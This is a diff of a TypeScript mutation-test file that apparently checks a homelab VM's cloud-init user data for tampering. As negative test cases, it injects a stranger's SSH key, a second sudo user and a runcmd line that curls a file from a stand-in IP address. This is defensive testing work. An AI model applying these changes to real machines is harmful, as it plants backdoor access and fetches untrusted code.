@@ -28,12 +28,13 @@ const onNode = "it puts a file on the node";
 
 /** The VM's user data with one text in place of another. */
 const userData =
-  (from: string, to: string): Mutation["change"] =>
+  (from: string | RegExp, to: string): Mutation["change"] =>
   (stack) => {
     const { inputs } = find(stack, types.uploads[0], "tooling-user-data");
     const { value } = inputs?.sourceRaw as { value: { fileName: string; data: string } };
-    if (!value.data.includes(from)) throw new Error(`the user data has no ${from}: ${value.data}`);
-    const sourceRaw = { ...value, data: value.data.replace(from, () => to) };
+    const data = value.data.replace(from, to);
+    if (data === value.data) throw new Error(`the user data has no ${String(from)}: ${data}`);
+    const sourceRaw = { ...value, data };
     setting(types.uploads[0], "tooling-user-data", { sourceRaw })(stack);
   };
 const otherwise = "it tells a VM something else than its component does";
@@ -100,11 +101,18 @@ export const guestMutations: readonly Mutation[] = rows(
     setting(types.uploads[0], "tooling-user-data", { fileMode: "0644" }),
     "others on the node may read it",
   ],
-  ["another key", userData("ssh-ed25519 AAAA operator", "ssh-ed25519 BBBB somebody"), otherwise],
+  ["another key", userData(/ssh-ed25519 \S+ operator/, "ssh-ed25519 BBBB somebody"), otherwise],
+  ["a second key", userData(/- ssh-ed25519 \S+ operator/, "$&\n      - ssh-ed25519 BBBB somebody"), otherwise],
   [
-    "a second key",
-    userData("- ssh-ed25519 AAAA operator", "- ssh-ed25519 AAAA operator\n      - ssh-ed25519 BBBB somebody"),
-    otherwise,
+    "a key of somebody else's from the start",
+    (stack) => {
+      const { inputs } = find(stack, "homelab:host:ToolingVm", "tooling");
+      const publicKey = "ssh-ed25519 BBBB somebody";
+      const { value } = inputs?.operatorKey as { value: object };
+      Object.assign(inputs ?? {}, { operatorKey: { ...value, publicKey } });
+      userData(/ssh-ed25519 \S+ operator/, publicKey)(stack);
+    },
+    "it lets in a key that is not the operator's",
   ],
   ["a second user", userData("users:\n", "users:\n  - name: somebody\n    sudo: ALL\n"), otherwise],
   ["a command", userData("runcmd:\n", "runcmd:\n  - [curl, -o, /x, 'http://198.51.100.1/x']\n"), otherwise],
